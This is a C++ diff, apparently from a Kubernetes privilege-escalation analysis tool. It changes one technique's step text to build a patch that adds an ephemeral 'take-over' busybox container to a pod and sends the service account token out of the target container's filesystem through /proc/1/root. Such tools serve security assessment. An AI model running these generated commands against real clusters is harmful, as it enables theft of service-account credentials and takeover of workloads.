@@ -1,5 +1,6 @@
 #include "graph/escalation/techniques/all.h"
 #include "graph/escalation/techniques/enter_pods.h"
+#include "graph/escalation/text.h"
 
 #include <fmt/format.h>
 
@@ -12,9 +13,17 @@ void apply(const Evaluation& at) {
 }
 
 StepText text(const StepView& view) {
+  const auto spec = fmt::format(
+      R"(,"spec":{{"ephemeralContainers":[{{"name":"take-over","image":"busybox","targetContainerName":"CONTAINER","command":{}}}]}})",
+      send_token_command("/proc/1/root"));
   return {
-      fmt::format("{} debug {} --image=IMAGE --profile=general", view.kubectl, pod_arguments(view)),
-      "a container added to the pod may mount its volumes, the token of its account among them"};
+      fmt::format("{}\n{}",
+                  overwrite_object(view, kPatchEphemeral,
+                                   object_json("v1", "Pod", view.account_ns, pod_name(view), spec),
+                                   "--subresource=ephemeralcontainers "),
+                  receive_token(view)),
+      "a container added to the pod sees the files of the others, the token of its account "
+      "among them"};
 }
 
 }  // namespace
